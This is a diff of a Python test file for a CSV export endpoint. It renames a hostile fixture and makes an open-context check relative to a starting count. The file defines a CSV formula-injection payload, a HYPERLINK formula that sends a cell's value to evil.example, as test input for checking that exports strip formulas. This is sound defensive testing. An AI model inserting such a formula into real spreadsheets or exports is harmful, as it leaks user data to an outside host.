@@ -27,7 +27,7 @@ from tests.support.gateway import (
 from tests.support.problems import is_problem
 
 CSV = {"Accept": "text/csv"}
-HOSTILE = "devices-hostile"
+HOSTILE = "hostile-cells"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 
 Download = Callable[..., Any]
@@ -94,12 +94,13 @@ def _records(response: Any) -> list[list[str]]:
 
 
 def test_every_document_is_a_record_in_the_order_that_was_asked_for(search: Search, many: str) -> None:
+    before = open_contexts()
     answer = search("", index=many, sort=["-Hostname"], fields=["Site", "Hostname"], headers=CSV)
     header, *records = _records(answer)
     assert header == ["Site", "Hostname"]
     assert records == [[f"{n}"[-1], f"h{n:05}"] for n in reversed(range(MANY_DOCUMENTS))]
     answer.close()
-    assert open_contexts() == 0
+    assert open_contexts() == before
 
 
 def test_records_are_written_as_rfc_4180_has_them_and_hold_no_formula(search: Search, hostile: str) -> None:
